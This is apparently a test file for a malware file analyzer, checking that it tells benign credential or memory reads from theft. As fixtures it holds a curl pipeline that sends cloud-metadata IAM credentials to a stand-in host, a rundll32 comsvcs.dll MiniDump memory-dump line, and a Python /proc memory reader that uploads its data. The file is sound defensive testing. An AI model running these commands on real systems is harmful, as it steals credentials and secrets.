// Programs ask for the keys of their own role, debuggers read memory: that is suspicious when something leaves with it.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/file/analyze.ts'

const METADATA = 'http://169.254.169.254/latest/meta-data/iam/security-credentials'

async function labelOf(fileName: string, text: string): Promise<string> {
  return (await analyzeFile(Buffer.from(text), { fileName, now: new Date(0) })).verdict.label
}

test('keys of the own role are no theft until they leave', async () => {
  const asks = `#!/bin/sh\nR=$(curl -s ${METADATA}/)\ncurl -s "${METADATA}/$R"`
  assert.equal(await labelOf('role.sh', `${asks} | jq -r .Expiration\n`), 'clean')
  assert.equal(await labelOf('role.sh', `${asks} | curl -s -d @- http://203.0.113.6/r\n`), 'malicious')
})

test('what else is stolen is stolen without leaving', async () => {
  const dump = 'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 612 C:\\windows\\temp\\l.bin full\r\n'
  assert.notEqual(await labelOf('d.bat', dump), 'clean')
})

test('a memory that a debugger searches is theft with a way out', async () => {
  const reads = [
    "for line in open(f'/proc/{pid}/maps'):",
    '    start, end = [int(x, 16) for x in line.split()[0].split("-")]',
    "    with open(f'/proc/{pid}/mem', 'rb') as memory:",
    '        memory.seek(start); data = memory.read(end - start)',
  ]
  const head = ['import sys, urllib.request', 'pid = sys.argv[1]', ...reads]
  const debugs = [...head, "        if b'needle' in data: print(line)", '']
  const sends = [...head, "        urllib.request.urlopen('http://203.0.113.8/m', data)", '']
  assert.equal(await labelOf('find.py', debugs.join('\n')), 'clean')
  assert.notEqual(await labelOf('find.py', sends.join('\n')), 'clean')
})
